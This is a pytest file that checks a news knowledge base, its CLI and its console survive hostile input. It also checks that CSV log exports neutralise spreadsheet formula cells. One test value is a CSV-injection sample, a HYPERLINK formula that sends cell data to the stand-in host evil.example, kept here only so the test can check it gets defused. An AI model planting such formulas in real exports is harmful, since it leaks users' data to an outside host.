"""Inputs that used to crash a question, a command or the console: impossible dates, undecodable
text, FTS5 syntax, absurd time windows and ids, bad settings, and CSV cells a spreadsheet would run
as formulas. Each goes through the library (``KnowledgeBase``) and through the CLI or the console."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bot.console import Console
from bot.settings import Settings
from knowledge import cli, dates
from knowledge.backends.sqlite import SqliteStore
from knowledge.config import KnowledgeConfig
from knowledge.embed import HashingEmbedder
from knowledge.errors import DocumentNotFound, InvalidInput, KnowledgeError, SettingsError
from knowledge.service import KnowledgeBase

ROOT = Path(__file__).resolve().parents[2]
UTC = dt.UTC
NOW = dt.datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
NEWS = (
    "Dam opens\n\nThe new dam on the Mekong river opened on 2022-02-28 after six years of construction, officials said."
)
HUGE_ID = 98765432109876543210  # 20 digits: past SQLite's 64-bit integers


class StrictEmbedder(HashingEmbedder):
    """Rejects what the real model's tokenizer rejects: text that is not valid Unicode (a lone
    surrogate raises TypeError in ``tokenizers``)."""

    def encode(self, texts, *, bulk=False):
        for text in texts:
            text.encode("utf-8")
        return super().encode(texts, bulk=bulk)


@pytest.fixture
async def strict_kb(kb_config):
    async with await KnowledgeBase.open(kb_config, embedder=StrictEmbedder()) as base:
        await base.add_text(NEWS)
        yield base


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DISCORD_", "NEWSDESK_", "BRIEFING_"))}
    env.update(PYTHONPATH=str(ROOT), NEWSDESK_DB=str(tmp_path / "nd.db"), LOG_LEVEL="WARNING", **extra)
    return env


# ---------------------------------------------------------------------------------------------- questions

HOSTILE_QUESTIONS = [
    "What happened on 2022-02-30?",  # no such day
    "What opened in 2022-13-45?",  # no such month
    "dam \ud800 river",  # lone surrogate (a broken client)
    "dam \udcff\udcfe river",  # undecodable bytes as Python's surrogateescape keeps them
    '"dam',
    'dam"',
    "dam*",
    "*",
    "NEAR(dam river",
    "NEAR(",
    "AND OR NOT",
    "dam AND",
    "-dam",
    "dam - river",
    "^dam",
    "title:dam",
    "text : river",
    "{title text}: dam",
    "dam + river",
    "(dam",
    "dam)",
    "'",
    "\x00dam",
]


@pytest.mark.parametrize("question", HOSTILE_QUESTIONS)
async def test_hostile_question_never_raises(strict_kb, question):
    answer = await strict_kb.ask(question, now=NOW)
    assert isinstance(answer.text, str) and answer.text
    answer.text.encode("utf-8")  # printable and storable
    answer.question.encode("utf-8")
    hits = await strict_kb.search(question)
    assert all(h.document.title == "Dam opens" for h in hits)
    # What the console and the bot do next: the question goes to the interaction log.
    row = await strict_kb.log_interaction("ask", input=question, answer=answer.text)
    assert (await strict_kb.store.interaction(row)).input


async def test_an_impossible_date_is_no_window_but_a_real_one_still_is(strict_kb):
    impossible = await strict_kb.ask("What happened at the dam since 2022-02-30?", now=NOW)
    real = await strict_kb.ask("What happened at the dam since 2022-02-20?", now=NOW)
    assert (impossible.date_from, impossible.date_to) == (None, None)
    assert real.date_from == dt.date(2022, 2, 20) and real.date_to == NOW.date()
    assert dates.parse_date_intent("since 2022-02-30", now=NOW).window is False
    # A day that names when something happened is no window (issue 16): it only ranks.
    on_the_day = dates.parse_date_intent("When did the dam open on 2022-02-28?", now=NOW)
    assert not on_the_day.window and on_the_day.about_from == on_the_day.about_to == dt.date(2022, 2, 28)
    assert dates.parse_date_intent("When did the dam open on 2022-02-30?", now=NOW).about_from is None


def test_cli_question_with_undecodable_bytes_is_answered(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(cli, "_open", lambda config: KnowledgeBase.open(config, embedder=StrictEmbedder()))
    for command in ("ask", "search"):
        # argv as Python decodes b"dam \xff river" (surrogateescape).
        code = cli.main(["--db", str(tmp_path / "cli.db"), command, "dam \udcff river"])
        out, err = capsys.readouterr()
        assert code == 0, err
        out.encode("utf-8")


@pytest.mark.model
def test_cli_question_with_undecodable_bytes_through_the_real_tokenizer(tmp_path):
    result = subprocess.run(
        [sys.executable, "-m", "knowledge.cli", "ask", os.fsdecode(b"dam \xff river")],
        cwd=tmp_path,
        env=_env(tmp_path),
        capture_output=True,
        timeout=300,  # bounds a hang, not a speed
    )
    assert result.returncode == 0, result.stderr.decode("utf-8", "replace")
    assert b"Traceback" not in result.stderr


def test_console_survives_bytes_that_are_not_utf8(tmp_path):
    seeds = tmp_path / "no-seeds"
    seeds.mkdir()
    # A strict UTF-8 terminal (not the C locale, where Python would quietly use surrogateescape).
    env = _env(tmp_path, NEWSDESK_SEEDS=str(seeds), PYTHONIOENCODING="utf-8:strict")
    result = subprocess.run(
        [sys.executable, "-m", "bot"],
        # Commands, not questions: a question would wait for the real model to load.
        input=b"doc \xff\xfe \xc3\nbrief \xe9t\xe9\nhelp\nquit\n",
        cwd=tmp_path,
        env=env,
        capture_output=True,
        timeout=300,  # bounds a hang, not a speed
    )
    stdout, stderr = result.stdout.decode("utf-8"), result.stderr.decode("utf-8", "replace")
    assert result.returncode == 0, stderr
    assert "Traceback" not in stderr
    assert "usage: doc add" in stdout and "error: cannot read the time" in stdout
    assert "ask QUESTION" in stdout  # then `help` still ran


# ---------------------------------------------------------------------------------------------- ids


@pytest.mark.parametrize("doc_id", [HUGE_ID, 2**63, -(2**70), 0, -1])
async def test_out_of_range_document_ids_are_not_found(kb, doc_id):
    await kb.add_text(NEWS)
    with pytest.raises(DocumentNotFound):
        await kb.get_document(doc_id)
    with pytest.raises(DocumentNotFound):
        await kb.remove_document(doc_id)
    with pytest.raises(DocumentNotFound):
        await kb.document_text(doc_id)
    assert await kb.store.interaction(doc_id) is None
    assert await kb.count_documents() == 1


def test_cli_docs_remove_with_a_20_digit_id(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(cli, "_open", lambda config: KnowledgeBase.open(config, embedder=HashingEmbedder()))
    code = cli.main(["--db", str(tmp_path / "cli.db"), "docs", "remove", str(HUGE_ID)])
    _, err = capsys.readouterr()
    assert code == 1
    assert err == f"error: no document #{HUGE_ID} that can be removed here\n"


# ---------------------------------------------------------------------------------------------- since


@pytest.mark.parametrize("value", ["99999999999d", "99999999999w", "999999999999m", "100000000h", "0001-01-01"])
def test_an_absurd_since_is_a_clear_error(value):
    with pytest.raises(InvalidInput, match="can go back 100 years at most"):  # newsdesk log export
        dates.parse_since(value, NOW, max_back=dates.MAX_BACK)
    # /brief, the console and newsdesk brief: the same parser, the same limit
    with pytest.raises(InvalidInput, match="can go back one year at most"):
        dates.parse_since(value, NOW)


def test_since_still_reads_what_it_read_before():
    assert dates.parse_since("90m", NOW) == NOW - dt.timedelta(minutes=90)
    assert dates.parse_since("3 days", NOW) == NOW - dt.timedelta(days=3)
    assert dates.parse_since("2026-03-01", NOW) == dt.datetime(2026, 3, 1, tzinfo=UTC)
    assert dates.parse_since("2026-03-01T06:30", NOW) == dt.datetime(2026, 3, 1, 6, 30, tzinfo=UTC)
    with pytest.raises(InvalidInput, match="cannot read the time"):
        dates.parse_since("2022-02-30", NOW)


@pytest.mark.parametrize(
    "args",
    [
        ["brief", "--since", "99999999999d"],
        ["log", "export", "--since", "99999999999d"],
        ["brief", "--since", "2022-02-30"],
    ],
)
def test_cli_absurd_since_is_one_line(tmp_path, monkeypatch, capsys, args):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(cli, "_open", lambda config: KnowledgeBase.open(config, embedder=HashingEmbedder()))
    code = cli.main(["--db", str(tmp_path / "cli.db"), *args])
    _, err = capsys.readouterr()
    assert code == 1
    assert err.startswith("error: ") and err.count("\n") == 1


# ---------------------------------------------------------------------------------------------- the console

CONSOLE_LINES = [
    "ask What happened on 2022-02-30?",
    "ask dam \udcff river",
    'ask NEAR("dam',
    "ask AND OR NOT",
    "brief 99999999999d",
    "brief 2022-02-30",
    "brief 2099-01-01",
    "brief yesterday",
    f"doc remove {HUGE_ID}",
    f"doc remove #{HUGE_ID}",
    "doc remove ²",
    f"doc list {HUGE_ID}",
    "doc list ²",
    "doc add /no/such/file.txt",
    "doc add",
    "doc",
    "doc frobnicate",
    '"unterminated',
    "''",
    "stats",
    "\udcff\udcfe",
]


@pytest.mark.parametrize("line", CONSOLE_LINES)
async def test_console_survives_hostile_commands(strict_kb, line):
    out = io.StringIO()
    console = Console(strict_kb, Settings(knowledge=strict_kb.config), out=out)
    assert await console.handle(line) is True
    printed = out.getvalue()
    assert printed.strip() and "unexpectedly" not in printed
    printed.encode("utf-8")
    assert await console.handle("doc list") is True  # and it goes on
    assert "Dam opens" in out.getvalue()


async def test_console_reports_an_unexpected_failure_and_goes_on(kb, caplog):
    out = io.StringIO()
    console = Console(kb, Settings(knowledge=kb.config), out=out)

    async def broken(*args, **kwargs):
        raise RuntimeError("a bug")

    kb.brief = broken  # type: ignore[method-assign]
    assert await console.handle("brief") is True
    assert "error: that command failed unexpectedly" in out.getvalue()
    assert "a bug" in caplog.text  # logged with its traceback, not swallowed


# ---------------------------------------------------------------------------------------------- settings

BAD_KNOWLEDGE_SETTINGS = [
    ("NEWSDESK_MAX_FILE_MB", "abc"),
    ("NEWSDESK_MAX_FILE_MB", "-5"),
    ("NEWSDESK_MAX_FILE_MB", "0"),
    ("NEWSDESK_MAX_FILE_MB", "nan"),
    ("NEWSDESK_MAX_FILE_MB", "inf"),
    ("NEWSDESK_QUERY_THREADS", "0"),
    ("NEWSDESK_QUERY_THREADS", "-2"),
    ("NEWSDESK_QUERY_THREADS", "1.5"),
    ("NEWSDESK_INDEX_THREADS", "many"),
    ("NEWSDESK_DB_BUSY_TIMEOUT_S", "-1"),
    ("NEWSDESK_MODEL", "no-such-model-package"),
    ("NEWSDESK_PARSE_TIMEOUT_S", "0"),
    ("NEWSDESK_MAX_PDF_PAGES", "lots"),
    ("NEWSDESK_FEED_ENTRIES", "0"),
    ("NEWSDESK_FEED_BUDGET_S", "nan"),
    ("NEWSDESK_DB", "postgresql://[::1:99999/x"),
    ("NEWSDESK_PG_BM25", "fast"),
]
BAD_BOT_SETTINGS = [
    ("BRIEFING_TIME", "25:00"),
    ("BRIEFING_TIME", "8"),
    ("BRIEFING_TIME", "08:00:00"),
    ("BRIEFING_TZ", "Mars/Base"),
    ("BRIEFING_TZ", "Europe"),
    ("BRIEFING_TZ", "x" * 500),
    ("BRIEFING_CHANNEL_ID", "-4"),
    ("BRIEFING_CHANNEL_ID", "9" * 30),
    ("BRIEFING_MAX_WORDS", "0"),
    ("RATE_LIMIT_PER_MINUTE", "-1"),
    ("LOG_LEVEL", "LOUD"),
]


@pytest.mark.parametrize("name, value", BAD_KNOWLEDGE_SETTINGS)
def test_bad_knowledge_setting_is_a_settings_error(name, value):
    with pytest.raises(SettingsError, match=name) as raised:
        KnowledgeConfig.from_env({name: value})
    assert isinstance(raised.value, KnowledgeError) and "\n" not in str(raised.value)
    with pytest.raises(SettingsError, match=name):  # the bot reads them through the same function
        Settings.from_env({name: value})


@pytest.mark.parametrize("name, value", BAD_BOT_SETTINGS)
def test_bad_bot_setting_is_a_settings_error(name, value):
    with pytest.raises(SettingsError, match=name) as raised:
        Settings.from_env({name: value})
    assert len(str(raised.value)) < 200


def test_good_settings_still_read():
    config = KnowledgeConfig.from_env(
        {"NEWSDESK_MAX_FILE_MB": "2.5", "NEWSDESK_QUERY_THREADS": "2", "NEWSDESK_DB_BUSY_TIMEOUT_S": "0"}
    )
    assert (config.max_file_bytes, config.query_threads, config.db_busy_timeout_s) == (int(2.5 * 2**20), 2, 0)
    limits = KnowledgeConfig.from_env(
        {
            "NEWSDESK_PARSE_TIMEOUT_S": "30",
            "NEWSDESK_MAX_PDF_PAGES": "500",
            "NEWSDESK_FEED_ENTRIES": "10",
            "NEWSDESK_FEED_BUDGET_S": "45",
        }
    )
    assert (limits.parse_timeout_s, limits.max_pdf_pages, limits.feed_entries, limits.feed_budget_s) == (
        30,
        500,
        10,
        45,
    )
    settings = Settings.from_env({"BRIEFING_TIME": "07:30", "BRIEFING_TZ": "Europe/Paris", "LOG_LEVEL": "debug"})
    assert (settings.briefing_time, settings.log_level) == (dt.time(7, 30), "DEBUG")


@pytest.mark.parametrize("module, args", [("knowledge.cli", ["docs", "list"]), ("bot", [])])
@pytest.mark.parametrize("name, value", [("NEWSDESK_MAX_FILE_MB", "abc"), ("NEWSDESK_QUERY_THREADS", "0")])
def test_bad_setting_is_one_line_and_exit_2(tmp_path, module, args, name, value):
    result = subprocess.run(
        [sys.executable, "-m", module, *args],
        input="",
        cwd=tmp_path,
        env=_env(tmp_path, **{name: value}),
        capture_output=True,
        text=True,
        timeout=300,  # bounds a hang, not a speed
    )
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and name in result.stderr and "Traceback" not in result.stderr


def test_log_export_into_a_missing_folder_is_a_clear_error(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    target = tmp_path / "missing" / "dir" / "log.csv"
    code = cli.main(["--db", str(tmp_path / "cli.db"), "log", "export", "--format", "csv", "-o", str(target)])
    _, err = capsys.readouterr()
    assert code == 1
    assert err == f"error: cannot write {target}: No such file or directory\n"


# ---------------------------------------------------------------------------------------------- CSV

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_export_neutralises_formula_cells_and_jsonl_stays_raw(tmp_path, monkeypatch, capsys, text):
    db = str(tmp_path / "log.db")

    async def write() -> None:
        store = await SqliteStore.open(db)
        try:
            await store.log_interaction("ask", input=text, outcome="answered", answer=text, latency_ms=-1.5)
            await store.log_interaction("ask", input="a plain question", outcome="answered", answer="a plain answer")
        finally:
            await store.close()

    asyncio.run(write())
    monkeypatch.chdir(tmp_path)

    assert cli.main(["--db", db, "log", "export", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["input"] == "'" + text and rows[0]["answer"] == "'" + text
    assert rows[1]["input"] == "a plain question"
    assert rows[0]["passage_ids"] == "[]" and rows[0]["latency_ms"] == "-1.5"  # a number is not a formula

    assert cli.main(["--db", db, "log", "export", "--format", "jsonl"]) == 0
    first = json.loads(capsys.readouterr().out.splitlines()[0])
    assert first["input"] == text and first["answer"] == text


@pytest.mark.parametrize(
    "args",
    [
        ["search", "dam", "-k", "-5"],
        ["search", "dam", "-k", str(HUGE_ID)],
        ["brief", "--words", "-5"],
        ["brief", "--words", str(HUGE_ID)],
    ],
)
def test_cli_absurd_counts_are_a_usage_error(tmp_path, monkeypatch, capsys, args):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as exited:
        cli.main(["--db", str(tmp_path / "cli.db"), *args])
    assert exited.value.code == 2
    assert "expected a number from" in capsys.readouterr().err
